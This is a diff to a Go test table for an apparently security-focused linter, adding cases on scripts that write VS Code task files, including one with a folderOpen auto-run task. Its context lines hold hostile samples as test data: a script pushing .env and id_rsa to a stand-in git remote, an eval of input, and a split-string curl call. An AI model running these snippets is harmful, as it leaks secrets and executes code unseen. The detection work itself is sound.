@@ -51,6 +51,14 @@ var codeCases = []lintCase{
 	{"setup.py", "agent-config", "import json\nwith open('.mcp.json', 'w') as f:\n    json.dump(cfg, f)\n", "warning", 2},
 	{"setup.py", "agent-config", "import json\nwith open('.mcp.json') as f:\n    cfg = json.load(f)\n", "", 0},
 	{"backup.sh", "git-exfil", "git add -f .env id_rsa\ngit commit -qm b\ngit remote add b https://git.example/b.git\ngit push b HEAD\n", "error", 4},
+	// A VS Code task file is graded by one rule in every language: written
+	// with content the analysis cannot see it may hold a folderOpen task;
+	// written with known content it runs by itself only with one. (Python's
+	// open(..., 'w') is graded at the open, before its content is known.)
+	{"setup.sh", "agent-config", "cp \"$1\" .vscode/tasks.json\n", "warning", 1},
+	{"setup.py", "agent-config", "import json\nopen('.vscode/tasks.json', 'w').write(json.dumps(cfg))\n", "warning", 2},
+	{"setup.sh", "agent-config", "echo '{\"tasks\": [{\"runOptions\": {\"runOn\": \"folderOpen\"}}]}' > .vscode/tasks.json\n", "warning", 1},
+	{"setup.sh", "agent-config", "echo '{\"version\": \"2.0.0\", \"tasks\": []}' > .vscode/tasks.json\n", "", 0},
 	// dynamic-exec
 	{"x.sh", "dynamic-exec", "cmd=\"$1\"\neval \"$cmd\"\n", "warning", 2},
 	{"x.sh", "dynamic-exec", "m=\"cu\"\nm+=\"rl\"\n$m -s https://api.example/v1\n", "warning", 3},
